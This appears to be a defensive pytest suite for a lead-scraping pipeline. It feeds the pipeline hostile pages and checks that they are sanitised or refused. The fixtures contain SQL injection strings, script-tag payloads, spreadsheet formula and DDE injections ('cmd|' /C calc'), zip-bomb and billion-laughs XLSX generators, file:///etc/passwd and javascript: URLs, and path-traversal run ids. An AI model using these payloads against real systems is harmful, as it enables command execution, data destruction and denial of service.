"""Hostile input, on SQLite and PostgreSQL: pages crafted to break parsers, the warehouse, the
terminal and spreadsheets. One run reads them through every source shape (HTML cards, JSON,
CSV, XLSX, web search) from a local site; it completes and publishes; values are stored as
found minus what is never data (controls, NUL, lone surrogates, bidi overrides); exports
neutralise formulas; the report and the terminal show names as text; XLSX bombs are refused with
a clear reason; records that cannot be used are rejected with theirs, and the counts reconcile."""

from __future__ import annotations

import contextvars
import csv
import html
import io
import json
import os
import re
import struct
import threading
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import text
from typer.testing import CliRunner
from werkzeug import Response

from leadrank.cli import app
from leadrank.config import SourceConfig
from leadrank.extractors import parsers
from leadrank.extractors.enrich import contact_link
from leadrank.extractors.fetch.cancel import cancellable
from leadrank.extractors.fetch.fetcher import Fetcher
from leadrank.extractors.fetch.result import FetchError
from leadrank.extractors.parsers import MAX_XLSX_UNCOMPRESSED
from leadrank.extractors.runner import extract_source
from leadrank.warehouse.engine import make_engine
from leadrank.warehouse.export import export_ranked
from leadrank.warehouse.read import ranked_leads
from leadrank.warehouse.report import write_report
from tests.helpers import prepare_run, run_pipeline
from tests.http_fakes import FAST, allow_all_robots, extra_server, raw_server
from tests.reliability_log import record

LONG = "长" * 10_000 + "有限公司"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]
NAMES = [
    "Robert'); DROP TABLE leads;-- 有限公司", "1' OR '1'='1 Trading Ltd", "x\\'; SELECT pg_sleep(10); -- 科技有限公司",
    "<script>alert('x')</script>深圳脚本科技有限公司", "<img src=x onerror=alert(1)>华南恶意贸易有限公司",
    "控制\x07字符\x1b[31m有限公司", "NUL\x00字节有限公司", "😀 Emoji Trading 有限公司 🚀", "华为Technologies株式会社한국Ελληνικά",
    "\u202eLTD LIVE\u202c Corp", "[/][bold]鼎盛[/bold]有限公司", "[link=http://evil.example]click[/link] Ltd", LONG, *FORMULAS,
]
UNUSABLE = ["🙂🙂🙂", "!!!", "\x00\x01\x02"]  # nothing left to name a company by
NOT_DATA = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\u202a-\u202e\u2066-\u2069]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def html_cards() -> bytes:
    cards = "".join(
        f"<div class=card><h3>{name}</h3><p class=addr>{FORMULAS[i % len(FORMULAS)]}</p></div>"
        for i, name in enumerate([n for n in NAMES if "<" not in n] + ["<b>粗体</b>有限公司", *UNUSABLE]))
    # markup inside names: the visible text is the name, scripts are not text
    cards += "<div class=card><h3><script>alert(1)</script>脚本隐身有限公司<img src=x onerror=alert(2)></h3></div>"
    cards += "<div class=card><h3></h3><p class=addr>no name at all</p></div>"
    return f"<html><body>{cards}</body></html>".encode("utf-8", "surrogatepass")


def json_records() -> bytes:
    rows = [{"name": n, "addr": "=1+1", "note": "\ud800 lone surrogate, \u0000 NUL"} for n in [*NAMES, *UNUSABLE]]
    rows.append({"name": "代理\ud800对有限公司", "addr": "\ud83d"})
    return json.dumps({"rows": rows}).encode()  # ensure_ascii: \ud800 and \u0000 stay escapes, as JSON allows


def csv_table() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["单位名称", "联系地址"])
    for name in [*FORMULAS, "Normal 正常有限公司", "=cmd|' /C calc'!A0 科技有限公司"]:
        writer.writerow([name, FORMULAS[0]])
    return out.getvalue().encode("utf-8")


def xlsx_table() -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(["单位名称", "联系地址"])
    for row, name in enumerate([*FORMULAS, "表格正常有限公司"], start=2):
        for column, value in enumerate([name, FORMULAS[1]], start=1):
            cell = sheet.cell(row=row, column=column, value=value)
            cell.data_type = "s"  # text that looks like a formula, as a hostile sheet carries it
    sheet.cell(row=len(FORMULAS) + 3, column=1, value='=HYPERLINK("http://evil.example","real formula")')
    sheet.cell(row=len(FORMULAS) + 3, column=2, value="a formula has no value until Excel computes it")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def zip_bomb() -> bytes:
    """A few hundred KB that expand past the XLSX limit."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            block = b"0" * (1 << 22)
            for _ in range(MAX_XLSX_UNCOMPRESSED // len(block) + 2):
                member.write(block)
    return buffer.getvalue()


def lying_zip() -> bytes:
    """A workbook whose sheet's zip headers claim 1 KB for 50 MB of content (so the size check
    passes): reading stops at the claimed size and the checksum gives it away."""
    source, out = zipfile.ZipFile(io.BytesIO(xlsx_table())), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</worksheet>", b" " * 50_000_000 + b"</worksheet>")
            archive.writestr(info.filename, data)
    data = bytearray(out.getvalue())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        sheet = archive.getinfo("xl/worksheets/sheet1.xml")
    struct.pack_into("<I", data, sheet.header_offset + 22, 1024)  # local header: uncompressed size
    name = b"xl/worksheets/sheet1.xml"
    central = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02"))
    while data[central + 46:central + 46 + len(name)] != name:
        central = data.find(b"PK\x01\x02", central + 4)
    struct.pack_into("<I", data, central + 24, 1024)  # central directory: uncompressed size
    return bytes(data)


def entity_bomb() -> bytes:
    """An XLSX whose sheet expands one entity to a billion 'lol's (XML "billion laughs")."""
    book = Workbook()
    book.active.append(["单位名称", "联系地址"])
    book.active.append(["LOLCELL", "x"])
    sheet, out = io.BytesIO(), io.BytesIO()
    book.save(sheet)
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    source = zipfile.ZipFile(sheet)
    with zipfile.ZipFile(out, "w") as archive:
        for info in source.infolist():
            data = source.read(info.filename).decode()
            if "LOLCELL" in data:
                start = data.index("<worksheet")
                data = data[:start] + f"<!DOCTYPE worksheet [{entities}]>" + data[start:].replace("LOLCELL", "&lol9;")
            archive.writestr(info, data)
    return out.getvalue()


def search_results() -> bytes:
    results = [{"url": f"https://site{i}.example.com/", "title": f"{name} - 官网", "content": FORMULAS[0]}
               for i, name in enumerate(NAMES)]
    results += [{"url": "javascript:alert(1)", "title": "脚本链接有限公司"},
                {"url": "file:///etc/passwd", "title": "本地文件有限公司"},
                {"url": "https://site0.example.com/again", "title": "重复网站有限公司"},
                {"url": "https://empty.example.com/", "title": ""}]
    return json.dumps({"results": results}, ensure_ascii=False).encode()


@pytest.fixture(scope="module")
def bombs() -> dict[str, bytes]:
    return {"bomb.xlsx": zip_bomb(), "liar.xlsx": lying_zip(), "laughs.xlsx": entity_bomb()}


@pytest.fixture
def hostile_site(httpserver, bombs, tmp_path) -> Path:
    httpserver.expect_request("/robots.txt").respond_with_data("User-agent: *\nAllow: /\n")
    pages = {"/expo.html": (html_cards(), "text/html; charset=utf-8"),
             "/api.json": (json_records(), "application/json"),
             "/members.csv": (csv_table(), "text/csv; charset=utf-8"),
             "/members.xlsx": (xlsx_table(), "application/octet-stream"),
             "/search": (search_results(), "application/json; charset=utf-8"),
             **{f"/{name}": (data, "application/octet-stream") for name, data in bombs.items()}}
    for path, (body, kind) in pages.items():
        httpserver.expect_request(path).respond_with_data(body, content_type=kind)
    url = httpserver.url_for
    table = {"format": "xlsx", "columns": {"company_name": "单位名称", "address": "联系地址"}}
    sources = [
        {"name": "cards", "kind": "exhibition", "url": url("/expo.html"), "items": "div.card",
         "fields": {"company_name": "h3", "address": "p.addr"}},
        {"name": "api", "kind": "exhibition", "url": url("/api.json"), "format": "json", "records": "rows",
         "fields": {"company_name": "name", "address": "addr", "products": "note"}},
        {"name": "csv", "kind": "association", "url": url("/members.csv"), "format": "csv",
         "columns": table["columns"]},
        {"name": "xlsx", "kind": "association", "url": url("/members.xlsx"), **table},
        {"name": "search", "kind": "websearch", "engine": "searxng", "endpoint": url("/search"), "queries": ["x"],
         "max_results": 50},
        *({"name": name.split(".")[0], "kind": "association", "url": url(f"/{name}"), **table} for name in bombs),
    ]
    path = tmp_path / "hostile.yaml"
    path.write_text(json.dumps({"fetch": {"rate_limit": 0, "allow_private_network": ["127.0.0.1"]},
                                "sources": sources}, ensure_ascii=False), encoding="utf-8")
    return path


def stored_text(engine, table: str) -> pd.DataFrame:
    with engine.connect() as conn:
        return pd.read_sql_query(text(f"SELECT * FROM {table}"), conn).astype(object)


def test_hostile_pages_are_stored_safely_exported_safely_and_accounted_for(hostile_site, warehouse_url, tmp_path):
    result = run_pipeline(str(hostile_site), warehouse_url)  # completes and publishes: raises otherwise
    reports = {r["source"]: r for r in result["sources"]}
    for source in ("cards", "api", "csv", "xlsx", "search"):
        assert reports[source]["status"] == "ok", reports[source]
    assert re.search(r"XLSX expands to \d+ bytes, over the limit of 200000000", reports["bomb"]["reason"])
    assert "Bad CRC-32" in reports["liar"]["reason"]
    assert "amplification" in reports["laughs"]["reason"]
    assert all(reports[name]["status"] == "failed" for name in ("bomb", "liar", "laughs"))

    engine = make_engine(warehouse_url)
    staged = stored_text(engine, "stg_prospects")
    leads = stored_text(engine, "leads")
    rejects = stored_text(engine, "stg_rejects")
    for frame in (staged, leads, rejects, stored_text(engine, "stg_source_runs")):
        for column in frame.columns:
            dirty = frame[column].map(lambda v: isinstance(v, str) and bool(NOT_DATA.search(v)))
            assert not dirty.any(), (column, frame.loc[dirty, column].head(3).tolist())
    names = set(staged["company_name"])
    for name in ["Robert'); DROP TABLE leads;-- 有限公司", "x\\'; SELECT pg_sleep(10); -- 科技有限公司", LONG, *FORMULAS,
                 "😀 Emoji Trading 有限公司 🚀", "华为Technologies株式会社한국Ελληνικά",
                 "<script>alert('x')</script>深圳脚本科技有限公司", "控制字符[31m有限公司", "NUL字节有限公司",
                 "LTD LIVE Corp", "[/][bold]鼎盛[/bold]有限公司", "脚本隐身有限公司", "粗体有限公司", "代理对有限公司"]:
        assert name in names, name  # as found, minus what is never data
    assert staged["company_name"].map(len).max() == len(LONG)  # 10,000 characters stored whole

    reasons = rejects.groupby("reason").size()
    # 🙂🙂🙂 and !!! from cards and api, and the cards' NUL that the HTML parser turned into U+FFFD
    assert reasons.filter(like="company name unusable").sum() == 5
    assert reasons.filter(like="required field empty: company_name").sum() == 3  # empty, controls only, a formula
    for why in ("not an http(s) URL (javascript:", "not an http(s) URL (file:", "same website as an earlier",
                "no company name"):
        assert reasons.filter(like=why).sum() == 1, why
    records = result["records"]
    assert records["extracted"] == records["published"] + records["merged"] + records["rejected"]
    assert records["rejected"] == len(rejects[rejects["stage"].isin(["extract", "normalise"])])
    with engine.connect() as conn:  # the warehouse is whole: every table there, every lead published
        assert conn.execute(text("SELECT COUNT(*) FROM lead_scores WHERE run_id = :r"),
                            {"r": result["run_id"]}).scalar() == records["published"]

    exported_csv, exported_xlsx = tmp_path / "leads.csv", tmp_path / "leads.xlsx"
    assert export_ranked(engine, exported_csv) == export_ranked(engine, exported_xlsx) == records["published"]
    cells = [c for row in csv.reader(io.StringIO(exported_csv.read_text(encoding="utf-8-sig"))) for c in row]
    risky = [c for c in cells if c.startswith(FORMULA_START) and not re.fullmatch(r"[+-]?[\d\s().]+", c)]
    assert not risky, risky[:5]
    assert any(c.startswith("'=HYPERLINK(") for c in cells) and any(c.startswith("'+cmd") for c in cells)
    assert any(c.startswith("'@SUM") for c in cells) and any(c.startswith("'-2+3") for c in cells)
    book = load_workbook(exported_xlsx)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):  # formula-like text is text, marked so even when edited
                    assert not cell.value.startswith(FORMULA_START) or cell.quotePrefix, cell.value
                    assert not cell.value.startswith("'"), cell.value
                    assert len(cell.value) <= 32_767

    report = tmp_path / "report.html"
    write_report(engine, report)
    page = report.read_text(encoding="utf-8")
    assert "<script" not in page and "<img" not in page
    shown_names = ranked_leads(engine).query("movement == 'new'").head(20)["company_name"]  # the report's table
    assert all(html.escape(name) in page for name in shown_names)

    shown = CliRunner().invoke(app, ["top", "-n", "500", "--warehouse", warehouse_url])
    assert shown.exit_code == 0, shown.output
    # A name with a closing tag ("[link=…]click[/link]", cleaned to "…]click[/link] Ltd") crashed Rich before
    assert "click[/" in shown.output and "\x1b" not in shown.output
    record("hostile input", "SQL injection, HTML/script, control characters, NUL, lone surrogates, 10,000-character "
           "fields, emoji, mixed scripts, bidi overrides, Rich markup, CSV/XLSX formulas; zip bomb, lying zip and "
           "entity bomb XLSX", runs=1, survived=1,
           lost=records["extracted"] - records["published"] - records["merged"] - records["rejected"],
           detail=f"{records['extracted']} extracted = {records['published']} published + {records['merged']} merged "
                  f"+ {records['rejected']} rejected; 3 bombs refused")



def test_a_record_that_vanishes_stops_the_run_before_it_publishes(demo_config, tmp_path):
    """The reconciliation is a check, not a report: a record lost between extraction and
    publishing (here: removed from the resolved records) fails the run, as does a lead left
    unscored, and nothing is published."""
    from leadrank import run_files
    from leadrank.reconcile import RecordsLost, reconcile

    config, url = str(demo_config), f"sqlite:///{tmp_path / 'w.db'}"
    prepared = prepare_run(config, url)
    run_id, sources = prepared["run_id"], prepared["source_names"]
    counts = reconcile(run_id, sources)
    assert counts["extracted"] == counts["published"] + counts["merged"] + counts["rejected"] > 0

    files = run_files.RunFiles(run_id)
    resolved, scores = run_files.read_frame(files.stage("resolved")), run_files.read_frame(files.stage("scores"))
    expo = resolved.index[resolved["source"] == "demo-expo"][0]
    resolved.drop(index=expo).to_parquet(files.stage("resolved"), index=False)
    with pytest.raises(RecordsLost, match=r"per source: demo-expo: 1\)"):
        reconcile(run_id, sources)
    resolved.to_parquet(files.stage("resolved"), index=False)
    scores.iloc[1:].to_parquet(files.stage("scores"), index=False)
    with pytest.raises(RecordsLost, match=f"leads without a score: {scores['lead_id'].iloc[0]}"):
        reconcile(run_id, sources)
    record("reconciliation", "a record removed between extraction and publishing; a lead left unscored", runs=2,
           survived=2, lost=0, detail="RecordsLost names the source; the run stops before publishing",
           warehouse="SQLite")


# -- one hostile thing at a time (issue 17): each leaves the rest of its source intact ---------------

def _source(url: str, **options) -> SourceConfig:
    return SourceConfig.model_validate({"name": "hostile", "kind": "exhibition", "url": url, **options})


def test_colspan_amplification_is_refused_quickly_with_the_reason(httpserver):
    """A 369 KB page of `colspan=1000` cells took 107 s and 2.28 GB: the grid is capped."""
    allow_all_robots(httpserver)
    row = "<tr>" + "<td colspan=1000>x</td>" * 8 + "</tr>"
    page = "<table><tr><th>单位名称</th></tr>" + row * (370_000 // len(row)) + "</table>"
    httpserver.expect_request("/wide.html").respond_with_data(page, content_type="text/html; charset=utf-8")
    source = _source(httpserver.url_for("/wide.html"), format="table", columns={"company_name": "单位名称"})
    started = time.process_time()
    records, _, report = extract_source(source, FAST, run_id="r")
    cpu = time.process_time() - started
    assert report.status == "failed" and "merged cells (colspan/rowspan)" in report.reason, report
    assert cpu < 5, cpu
    # a legitimate merged layout below the cap still reads: a heading across the table, a level down a block
    legit = ("<table><tr><th>单位名称</th><th>级别</th></tr><tr><td colspan=2>一、理事单位</td></tr>"
             "<tr><td>甲公司</td><td rowspan=2>理事</td></tr><tr><td>乙公司</td></tr></table>")
    rows = parsers.parse_html_table(parsers.soup(legit), {"columns": {"company_name": "单位名称", "member_level": "级别"},
                                                          "section_field": "industry"})
    assert [(f["company_name"], f["member_level"], f["industry"]) for f, _ in rows] == [
        ("甲公司", "理事", "一、理事单位"), ("乙公司", "理事", "一、理事单位")]
    with pytest.raises(parsers.ParseError, match="more than 10 cells"):
        parsers.table_grid(parsers.soup("<table><tr><td rowspan=99 colspan=5>a</td></tr>" + "<tr></tr>" * 3
                                        + "</table>").table, max_cells=10)
    record("hostile input", "a table page of colspan=1000 cells (merged-cell amplification)", runs=1, survived=1,
           lost=0, detail=f"page refused with the reason in {cpu:.1f} s CPU (was 107 s, 2.28 GB)")


def test_the_search_key_does_not_follow_a_redirect_to_another_host(httpserver, tmp_path, monkeypatch):
    key = "sk-redirected-5e4d3c2b1a"
    seen: dict[str, str | None] = {}
    with extra_server() as elsewhere:
        allow_all_robots(httpserver)
        allow_all_robots(elsewhere)

        def other(request):
            seen["token"] = request.headers.get("X-Subscription-Token")
            return Response(json.dumps({"web": {"results": [{"url": "https://planted.example.com/",
                                                             "title": "Planted Co. Ltd"}]}}),
                            content_type="application/json")

        elsewhere.expect_request("/search").respond_with_handler(other)
        httpserver.expect_request("/api").respond_with_response(
            Response("", status=302, headers={"Location": elsewhere.url_for("/search")}))
        monkeypatch.setenv("SEARCH_KEY", key)
        source = SourceConfig.model_validate({"name": "paid", "kind": "websearch", "engine": "brave",
                                              "endpoint": httpserver.url_for("/api"), "api_key": "${SEARCH_KEY}",
                                              "queries": ["x"]})
        records, _, report = extract_source(source, FAST, run_id="r")
    assert seen == {"token": None}  # the other host was asked, without the key
    assert report.status == "failed" and "redirected to another host" in report.reason and records.empty
    record("hostile input", "search endpoint answers 302 to another host", runs=1, survived=1, lost=0,
           detail="API key not sent there; its results refused")


def test_a_malformed_url_loses_only_its_row_or_link(httpserver):
    allow_all_robots(httpserver)
    results = [{"url": "https://a.example.com/", "title": "甲有限公司"}, {"url": "http://[::1", "title": "坏链接有限公司"},
               {"url": "http://[bad/x", "title": "也坏有限公司"}, {"url": "https://b.example.com/", "title": "乙有限公司"}]
    httpserver.expect_request("/search").respond_with_json({"results": results})
    cards = ("<div class=c><h3>甲公司</h3><a href='http://[bad'>详情</a></div>"
             "<div class=c><h3>乙公司</h3><a href='/d/2'>详情</a></div><a class=next href='http://[::1'>下一页</a>")
    httpserver.expect_request("/list").respond_with_data(cards, content_type="text/html; charset=utf-8")
    httpserver.expect_request("/d/2").respond_with_data("<p class=tel>0755-1</p>", content_type="text/html")
    table = ("<table><tr><th>名称</th><th>网址</th></tr><tr><td>丙公司</td><td><a href='http://[::1'>丙网</a></td></tr>"
             "<tr><td>丁公司</td><td><a href='https://d.example.com/'>丁网</a></td></tr></table>")
    httpserver.expect_request("/table").respond_with_data(table, content_type="text/html; charset=utf-8")

    search = SourceConfig.model_validate({"name": "s", "kind": "websearch", "endpoint": httpserver.url_for("/search"),
                                          "queries": ["x"]})
    records, rejects, report = extract_source(search, FAST, run_id="r")
    assert report.status == "ok" and list(records["company_name"]) == ["甲有限公司", "乙有限公司"]
    assert list(rejects["reason"]) == ["search result not used: malformed URL (http://[::1)",
                                       "search result not used: malformed URL (http://[bad/x)"]
    cards_source = _source(httpserver.url_for("/list"), items="div.c",
                           fields={"company_name": "h3", "detail_url": "a@href"}, pagination={"next": "a.next"},
                           detail={"fields": {"phone": "p.tel"}})
    records, _, report = extract_source(cards_source, FAST, run_id="r")
    assert report.status == "ok" and list(records["company_name"]) == ["甲公司", "乙公司"]
    assert list(records["phone"]) == [None, "0755-1"]
    assert sum("malformed" in w for w in report.warnings) == 2  # the detail link and the next link, named
    table_source = _source(httpserver.url_for("/table"), format="table",
                           columns={"company_name": "名称", "website": "网址@href"})
    records, _, report = extract_source(table_source, FAST, run_id="r")
    assert report.status == "ok" and list(records["website"]) == ["丙网", "https://d.example.com/"]
    with pytest.raises(FetchError, match="malformed URL"):
        Fetcher(FAST).get("http://[::1")
    links = parsers.soup("<a href='http://[::1/contact'>联系我们</a><a href='/contact'>联系我们</a>")
    assert contact_link(links, "https://a.example.com/") == "https://a.example.com/contact"
    record("hostile input", "malformed URLs (http://[::1, http://[bad) in search results, detail, next and table links",
           runs=3, survived=3, lost=0, detail="the row rejected or the link dropped, with the reason; the rest read")


def test_headers_that_trickle_end_at_total_timeout():
    head = b"HTTP/1.1 200 OK\r\nX-Slow: " + b"a" * 60 + b"\r\nContent-Length: 2\r\n\r\nok"
    with raw_server([bytes([b]) for b in head], pause=0.1) as srv:  # 1 byte each 0.1 s: 9 s of headers
        slow = FAST.model_copy(update={"respect_robots": False, "max_retries": 0, "total_timeout": 1.0,
                                       "read_timeout": 1.0})
        started = time.monotonic()
        with pytest.raises(FetchError, match="total_timeout=1s"):
            Fetcher(slow).get(srv.url("/slow"))
        took = time.monotonic() - started
    assert took < 2.5, took
    record("hostile input", "response headers trickled a byte at a time (each read within read_timeout)", runs=1,
           survived=1, lost=0, detail=f"ended at total_timeout after {took:.1f} s (was the whole trickle)")


def test_an_abandoned_fetch_is_cancelled_and_does_not_retry():
    with raw_server([b"HTTP/1.1 200 OK\r\n"], pause=30) as srv:  # says one line, then nothing
        patient = FAST.model_copy(update={"respect_robots": False, "max_retries": 3, "read_timeout": 20.0,
                                          "total_timeout": 20.0})
        outcome: dict[str, object] = {}

        def work() -> None:
            try:
                Fetcher(patient).get(srv.url("/hang"))
            except FetchError as exc:
                outcome["error"] = exc

        with cancellable() as fetches:
            worker = threading.Thread(target=contextvars.copy_context().run, args=(work,))
            worker.start()
            deadline = time.monotonic() + 10  # the request in flight (a loaded machine takes a while to connect)
            while srv.connections < 1 and time.monotonic() < deadline:
                time.sleep(0.05)
            time.sleep(0.2)
            fetches.cancel()  # what the extract task does when its timeout abandons the thread
            worker.join(timeout=3)
        assert not worker.is_alive()
        assert "cancelled" in str(outcome["error"]) and srv.connections == 1  # ended, and never retried
    record("hostile input", "a source task abandoned by its timeout while a request hangs", runs=1, survived=1,
           lost=0, detail="the request in flight ends at once; no retry starts")


@pytest.mark.parametrize("label", ["undefined", "punycode", "idna", "utf-7"])
def test_odd_charset_labels_are_read_and_kept(httpserver, tmp_path, label):
    allow_all_robots(httpserver)
    # ASCII, so that punycode and idna try it; UTF-7 would read "+AGE-" as "a" (smuggled text)
    body = b"<div class=c><h3>R+AGE-D Ltd</h3></div><div class=c><h3>Caf&eacute; GmbH</h3></div>"
    httpserver.expect_request("/odd").respond_with_data(body, content_type=f"text/html; charset={label}")
    records, _, report = extract_source(_source(httpserver.url_for("/odd"), items="div.c",
                                                fields={"company_name": "h3"}), FAST, run_id="r", raw_dir=tmp_path)
    assert report.status == "ok" and list(records["company_name"]) == ["R+AGE-D Ltd", "Café GmbH"]
    assert [p.read_bytes() for p in tmp_path.rglob("*.body")] == [body]  # the response is in the raw store
    record("hostile input", "charset labels that are no web charset (undefined, punycode, idna, utf-7)", runs=1,
           survived=1, lost=0, detail="decoded as undeclared; the response kept in the raw store")


def test_one_unreadable_json_record_is_rejected_and_the_others_kept(httpserver):
    allow_all_robots(httpserver)
    deep = "[" * 400 + '"x"' + "]" * 400
    document = ('{"rows": [{"name": "甲公司"}, {"name": "深公司", "tags": ' + deep + '}, {"name": "大数公司", "id": '
                + "9" * 5000 + '}, {"name": "乙公司", "tags": ["a"]}]}')
    httpserver.expect_request("/api.json").respond_with_data(document, content_type="application/json")
    source = _source(httpserver.url_for("/api.json"), format="json", records="rows",
                     fields={"company_name": "name", "products": "tags"})
    records, rejects, report = extract_source(source, FAST, run_id="r")
    assert report.status == "ok" and list(records["company_name"]) == ["甲公司", "乙公司"]
    assert list(rejects["reason"]) == ["record cannot be read: nested too deep",
                                       "record cannot be read: an integer of 5000 digits (more than can be converted)"]
    assert "大数公司" in rejects["raw"].iloc[1]
    results = ('{"results": [{"url": "https://a.example.com/", "title": "甲有限公司"}, {"url": ' + "9" * 5000
               + ', "title": "大数有限公司"}, {"url": "https://b.example.com/", "title": "乙有限公司"}]}')
    httpserver.expect_request("/search").respond_with_data(results, content_type="application/json")
    search = SourceConfig.model_validate({"name": "s", "kind": "websearch", "endpoint": httpserver.url_for("/search"),
                                          "queries": ["x"]})
    records, rejects, report = extract_source(search, FAST, run_id="r")
    assert report.status == "ok" and list(records["company_name"]) == ["甲有限公司", "乙有限公司"]
    assert list(rejects["reason"]) == [
        "search result not used: cannot be read: an integer of 5000 digits (more than can be converted)"]
    record("hostile input", "one JSON record nested 400 deep, one with a 5,000-digit integer (a source, a search)",
           runs=2, survived=2, lost=0, detail="those records rejected with the reason, the others read")


def test_retry_after_that_is_no_ascii_number_falls_back_to_backoff(httpserver):
    allow_all_robots(httpserver)
    answers = [Response("busy", status=503, headers={"Retry-After": "²"}), Response("fine")]
    httpserver.expect_request("/busy").respond_with_handler(lambda _request: answers.pop(0))
    sleeps: list[float] = []
    assert Fetcher(FAST, sleep=sleeps.append).get(httpserver.url_for("/busy")).text == "fine"
    assert len(sleeps) == 1 and sleeps[0] < 1  # the configured backoff, not a crash
    record("hostile input", "Retry-After: ² (a digit to str.isdigit, not to float)", runs=1, survived=1, lost=0,
           detail="ignored; retried after the configured backoff")


def test_extract_output_neutralises_formulas(tmp_path, httpserver):
    allow_all_robots(httpserver)
    cards = "".join(f"<div class=c><h3>{html.escape(name)}</h3></div>" for name in FORMULAS)
    httpserver.expect_request("/f").respond_with_data(cards, content_type="text/html; charset=utf-8")
    config = tmp_path / "s.yaml"
    config.write_text(json.dumps({"fetch": {"rate_limit": 0, "allow_private_network": True}, "sources": [
        {"name": "f", "kind": "exhibition", "url": httpserver.url_for("/f"), "items": "div.c",
         "fields": {"company_name": "h3"}}]}), encoding="utf-8")
    out = tmp_path / "x.csv"
    result = CliRunner().invoke(app, ["extract", "-c", str(config), "-o", str(out)])
    assert result.exit_code == 0, result.output
    names = list(pd.read_csv(out, encoding="utf-8-sig", dtype=str)["company_name"])
    assert names == ["'" + name for name in FORMULAS]
    record("hostile input", "`leadrank extract -o` of =HYPERLINK, +cmd, @SUM, -2+3 names", runs=1, survived=1,
           lost=0, detail="written with a leading apostrophe, as the exports")


def test_extract_replay_refuses_a_path_for_a_run_id(tmp_path, monkeypatch):
    data = Path(os.environ["LEADRANK_DATA_DIR"])
    monkeypatch.chdir(tmp_path)
    config = tmp_path / "s.yaml"
    config.write_text(json.dumps({"sources": []}), encoding="utf-8")
    before = {p for p in tmp_path.rglob("*")}
    for run_id in ("../../x", str(tmp_path / "elsewhere"), "..", "a/../../b"):
        result = CliRunner().invoke(app, ["extract", "-c", str(config), "--replay", run_id, "-o", str(tmp_path / "o.csv")])
        assert result.exit_code != 0 and "is not a run id" in " ".join(result.output.split()), result.output
    assert {p for p in tmp_path.rglob("*")} == before and not (data.parent / "x").exists()
    record("hostile input", "`leadrank extract --replay ../../x` (a path for a run id)", runs=4, survived=4, lost=0,
           detail="refused as --resume refuses it; no directory created")


def test_markdown_from_pages_reaches_artifacts_as_text():
    from leadrank.flows.artifacts import failed_sources_markdown, summary_markdown

    planted = "![t](http://tracker.example/p.png) [click](http://evil.example) <img src=x> **bold** | x`y`\n# h"
    report = {"source": "s", "kind": "exhibition", "status": "failed", "pages": 1, "records": 0, "rejected": 0,
              "seconds": 0.1, "reason": planted}
    for shown in (summary_markdown({"run_id": "r", "sources": [report]}, failure=planted),
                  failed_sources_markdown("r", [report], 1)):
        assert not re.search(r"(?<!\\)(!\[|\]\(|\*\*b|`y|<img)|\n# h", shown), shown  # no markup left unescaped
        assert "\\!\\[t\\](http://tracker.example/p.png)" in shown and "&lt;img src=x&gt;" in shown
    record("hostile input", "Markdown and HTML in a source's failure reason (images, links, emphasis)", runs=1,
           survived=1, lost=0, detail="shown as text in the run-summary and failed-sources artifacts")


def test_a_timed_out_extract_task_stops_its_fetches(prefect_harness, tmp_path):
    """The Prefect task, as the nightly flow runs it: its timeout abandons the worker thread, and
    the thread's fetch ends then instead of timing out later and retrying after the flow."""
    from prefect import flow

    from leadrank.flows import tasks
    from leadrank.run_files import freeze_config

    with raw_server([b"HTTP/1.1 200 OK\r\n"], pause=30) as srv:
        config = tmp_path / "s.yaml"
        config.write_text(json.dumps({
            "fetch": {"allow_private_network": True, "respect_robots": False, "rate_limit": 0, "max_retries": 3,
                      "backoff_base": 0.001, "read_timeout": 2.0, "total_timeout": 2.0},
            "sources": [{"name": "hang", "kind": "exhibition", "url": srv.url("/hang"), "items": "div",
                         "fields": {"company_name": "h3"}}]}), encoding="utf-8")
        freeze_config(config, "run-1")
        extract = tasks.extract_source.with_options(timeout_seconds=1, retries=0)

        @flow
        def night() -> object:
            return extract("run-1", "hang", return_state=True)

        state = night()
        assert state.name == "TimedOut", state
        time.sleep(2.5)  # past the request's own total_timeout: uncancelled, it would be retrying by now
        assert srv.connections == 1
    record("hostile input", "a source task abandoned by its timeout while a request hangs", runs=1, survived=1,
           lost=0, detail="the request in flight ends at once; no retry starts")
